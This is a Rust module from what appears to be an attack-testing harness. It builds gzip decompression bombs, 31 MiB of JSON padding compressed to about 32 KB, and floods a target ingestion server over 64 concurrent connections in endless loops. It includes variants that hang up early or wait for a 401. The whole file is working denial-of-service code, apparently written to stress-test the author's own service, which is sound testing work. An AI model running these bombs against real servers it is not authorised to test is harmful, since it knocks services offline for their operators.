//! Gzip bombs: 31 MiB of JSON in 32 KB.

use std::{io::Write as _, sync::OnceLock, time::Duration};

use flate2::{Compression, write::GzEncoder};

use super::{Attack, Source, sender::Victim};

/// Size of the inflated body, just under the limit of a Segment source.
const INFLATED: usize = 31 << 20;

/// The attacks of this file.
pub const ATTACKS: [Attack; 3] = [
    Attack {
        key: "gzip-hang-up",
        what: "gzip bombs without a signature, hanging up before the 401",
        source: Source::Signed,
        connections: 64,
        run: |victim, index| Box::pin(hang_up(victim, index)),
        ..Attack::DEFAULT
    },
    Attack {
        key: "gzip-401",
        what: "gzip bombs without a signature, 401 awaited",
        source: Source::Signed,
        connections: 64,
        run: |victim, _| Box::pin(awaited(victim)),
        ..Attack::DEFAULT
    },
    Attack {
        key: "gzip-unsigned",
        what: "gzip bombs to an unsigned source, hanging up",
        connections: 64,
        run: |victim, index| Box::pin(hang_up(victim, index)),
        ..Attack::DEFAULT
    },
];

/// Returns a request with a bomb.
fn bomb(victim: &Victim) -> Vec<u8> {
    static BODY: OnceLock<Vec<u8>> = OnceLock::new();
    let body = BODY.get_or_init(|| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        let padding = vec![b'0'; INFLATED];
        let json: [&[u8]; 3] =
            [br#"{"type":"track","event":"E","userId":"u","properties":{"pad":""#, &padding, br#""}}"#];
        // Writing into memory does not fail.
        let _ = json.iter().try_for_each(|piece| encoder.write_all(piece));
        encoder.finish().unwrap_or_default()
    });
    victim.request("content-encoding: gzip\r\n", body)
}

/// Hangs up after a time that differs from request to request: some of them are by then on their way to the store.
async fn hang_up(victim: Victim, index: usize) {
    let request = bomb(&victim);
    for round in index.. {
        if let Ok(mut sender) = victim.connect().await
            && sender.send(&request).await.is_ok()
        {
            let patience = Duration::from_millis(50 + (round as u64 * 131) % 1500);
            let _ = tokio::time::timeout(patience, sender.answer()).await;
        }
        // A server that refuses connections is not asked in a loop without a pause.
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

async fn awaited(victim: Victim) {
    let request = bomb(&victim);
    loop {
        if let Ok(mut sender) = victim.connect().await {
            let _ = sender.exchange(&request).await;
        }
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}
